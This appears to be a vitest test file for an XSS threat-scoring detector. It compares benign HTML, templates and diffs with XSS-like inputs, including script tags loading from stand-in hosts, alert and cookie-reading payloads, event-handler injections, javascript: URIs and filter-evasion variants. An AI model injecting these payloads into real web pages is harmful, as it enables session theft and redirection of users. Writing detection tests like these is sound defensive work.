// biome-ignore-all lint/suspicious/noTemplateCurlyInString: code is not a template
import { describe, expect, it } from 'vitest'
import { xss } from '../../plugins/threat-score/xss.ts'
import { scoreOf } from './score-of.ts'

const inDocument = { where: 'body.json./text' }

describe('pages and code that nobody is attacked with', () => {
  it.each([
    '<script type="application/ld+json">{"@context":"https://schema.org","@type":"Recipe","name":"Soup"}</script>',
    '<script type="text/template" id="row"><tr><td>{{name}}</td></tr></script>',
    '<script type="importmap">{"imports": {"vue": "/js/vue.js"}}</script>',
    "{% extends 'b.html' %}\n<script src=\"{% static 'cart.js' %}\"></script>",
    '<p>x</p>\n<script src="<%= asset_path(\'b.js\') %>"></script>',
    '<bpmn:scriptTask id="b"><bpmn:script>execution.setVariable("sum", a * b)</bpmn:script></bpmn:scriptTask>',
    '<object data="/docs/guide.pdf#page=4" type="application/pdf"><p>No PDF here.</p></object>',
    'intitle:"cross-site" -insource:/<script/',
    'insource:/<iframe/ insource:/onload=/',
    'for line in page:\n    if "<script" in line or "onerror=" in line:\n        print(line)',
    "SELECT id FROM posts WHERE body LIKE '%<script%' OR body LIKE '%onerror=%'",
    "text = re.sub(r'<script.*?</script>', '', text)",
    'const row = `<li onclick="pick(${i})">${escapeHtml(user.name)}</li>`; list.insertAdjacentHTML(\'beforeend\', row);',
    "if (!confirm('Remove \"' + title + '\"?')) return false; else remove(id); alert('Removed');",
    "const add = new Function('x', 'y', 'return x + y'); add(1, 2)",
    '<a href="javascript:history.back()">Back</a>',
    '<a href="#" onclick="location=\'/cart\'">Cart</a>',
    '<form action="/find" onsubmit="return check(this)">\n<input name="q" onkeyup="suggest(this.value)">\n<b>x</b>\n</form>\n<script>\n  function check(f) { return f.q.value !== \'\' }\n</script>',
    '<script async src="https://www.googletagmanager.com/gtag/js?id=G-B"></script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n</script>',
    "@@ -4,6 +4,7 @@ const strip = (html) => {\n   const text = html.replace(/<\\/script>/gi, '');\n-  return text;\n+  return text.replace(/<iframe>/g, '');\n }",
    '--- a/page.html\n+++ b/page.html\n@@ -1,3 +1,3 @@\n-  <script src="/js/old.js"></script>\n+  <script src="/js/new.js"></script>',
    "describe('Note', () => {\n  render(<Note html='<i>x</i>' />);\n  expect(text).toBe('&lt;i&gt; \"x\"&lt;/i&gt;');\n  expect(window.alert).not.toHaveBeenCalled();\n});",
    '<script setup lang="ts">\nconst props = defineProps<{ name: string }>()\n</script>\n<template>\n  <b>{{ props.name }}</b>\n</template>',
    '<!doctype html>\n<canvas id="b"></canvas>\n<script>\n  window.onload = function () {\n    draw(document.getElementById(\'b\'));\n  };\n</script>',
    '<!doctype html><title>b</title><script src="main.js"></script>',
    '<script async src="https://count.example.org/c.js" data-site="B-17"></script>',
    '<p>Two of our rooms are new this year, and all have a view.</p><p><a href="#" onclick="return book();">Book</a></p>',
  ])('%s', (value) => {
    expect(scoreOf(xss, value)).toBeLessThan(80)
    expect(scoreOf(xss, value, inDocument)).toBeLessThan(80)
  })

  it.each([
    '<table>\n<tr><td>1</td></tr>\n</table>\n<script src="/js/sort.js"></script>',
    '<table><tr><td>1</td></tr></table><script async src="https://book.example.org/b.js"></script>',
    '<div>\n<script src="/js/a.js"></script>\n<script src="/js/b.js"></script>\n</div>',
    '<!DOCTYPE html><html><body onload="init()"><a href="#" onclick="go()">x</a></body></html>',
    '<!DOCTYPE html><html><body><h1>Report</h1><script>window.print()</script></body></html>',
    'import Script from "next/script"\n\nexport default () => <Script src="/stats.js" />',
    'To show the list on your own page, paste this line\n\n    <script src="https://list.example.com/w.js"></script>\n\nbefore the last tag of the body.',
  ])('in a document: %s', (value) => {
    expect(scoreOf(xss, value, inDocument)).toBeLessThan(80)
  })
})

describe('what looks like such a page', () => {
  it.each([
    '<x a="<script type=text/template>"><script>alert(2)</script>',
    '<textarea><script type="text/template"></textarea><script>go()</script>',
    '<script type="text/template" src=""></script><script src="//h.example/b.js"></script>',
    '<script type=importmap>{"imports":{"b":"//h.example/b.js"}}</script>',
    '<script type="text/vbscript">MsgBox 2</script>',
    '<script src="{{\'b\'}}" src="//h.example"></script>',
    '<y:script xmlns:y="http://www.w3.org/1999/xhtml">go()</y:script>',
    'b/<script/ src=//h.example></script>',
    'b/<script/ src=//h.example>',
    '/<script>/g,alert(2)</script>',
    '@@ -1,2 +1,2 @@\n+<script>alert(2)</script>\n b\n c',
    '--- a/b\n<script src="https://h.example/b.js"></script>',
    '<!doctype html><script src=//h.example/b.js></script>',
    '<script async src="https://h.example/b.js"></script>',
    '<script async src=//h.example/b.js data-site="b"></script>',
    '<script src="/js/a.js"></script><script src="//h.example/b.js"></script>',
    'y"onload=" alert(2) "',
    '<svg onload="location=\'/out?to=b\'">',
    '<a href="#" onclick="location=\'/\\h.example\'">b</a>',
    '<img src=y onerror="go({{ id }});alert(2)">',
    '<script src="//h.example/b.js"></script><!-- dataLayer https://www.googletagmanager.com/gtag/js?id=G-B aaaaaaaaaaaaaaa -->',
    '<script src="/\\h.example/b.js"></script><!-- dataLayer https://www.googletagmanager.com/gtag/js?id=G-B aaaaaaaaaaaaaaa -->',
    '<p>\n\n\n\n</p><script>\nconst ab = 2;\nimport("//h.example/b.js")</script>',
    '\n\n    <script>alert(2)</script>',
  ])('%s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
    expect(scoreOf(xss, value, inDocument)).toBeGreaterThanOrEqual(80)
  })
})

describe('tags and keys that are mentioned', () => {
  it.each([
    'The manual says <script src=...> goes into the head, but nothing is shown.',
    'The tag <script src="…"></script> loads a file; <template> does not.',
    'Our editor keeps <script>name</script> out of comments; is that wanted?',
    'Put nothing between <script></script> and the end of the page.',
    'When do I write <script defer> and when <script async>?',
    'javascript:S2068,typescript:S3649,Web:S5254',
    'topic:node,mocha:hooks',
    'Replace <script src="[address]"></script> with the one that we sent, please.',
  ])('are not denied: %s', (value) => {
    expect(scoreOf(xss, value)).toBeLessThan(80)
  })

  it.each([
    'The manual says <script src=//evil.example/a.js> goes into the head, you know.',
    'Our editor keeps <script>alert(1)</script> out of comments, you know.',
    'hello my friends <script>x</script><script>alert(1)</script> and bye',
    'hello my friends <script src=//evil.example></script> and bye',
    '<svg><script src=...>alert(1)</script>',
    '<svg><script src="{% x %}">alert(1)</script>',
    'javascript:alert(1),a:b',
    'javascript:a,name',
    'mocha:alert(1)',
    'javascript:top[1],a:b',
  ])('are denied where they do something: %s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
  })

  const upload = { where: 'body.multipart.page.content', kind: 'body' } as const

  it('pages that are uploaded are marked, and denied where they attack whoever opens them', () => {
    const page = (script: string) => `<html><head><title>a</title></head><body><script>${script}</script></body></html>`
    const drawn = scoreOf(xss, page('document.title = "Year"; drawChart([3, 1])'), upload)
    expect(drawn).toBeLessThan(80)
    expect(drawn).toBeGreaterThanOrEqual(40)
    expect(scoreOf(xss, page('drawChart([3, 1])'))).toBeGreaterThanOrEqual(80)
    const own =
      '<html><head><script src="js/a.js"></script></head><body><a href="#" onclick="init()">a</a></body></html>'
    expect(scoreOf(xss, own, upload)).toBeLessThan(80)
    expect(scoreOf(xss, own.replace('js/a.js', '//evil.example/a.js'), upload)).toBeGreaterThanOrEqual(80)
    expect(scoreOf(xss, own.replace('init()', 'alert(1)'), upload)).toBeGreaterThanOrEqual(80)
    for (const script of ['alert(document.cookie)', "location='//evil.example/'", "eval(atob('eA=='))"])
      expect(scoreOf(xss, page(script), upload)).toBeGreaterThanOrEqual(80)
  })
})
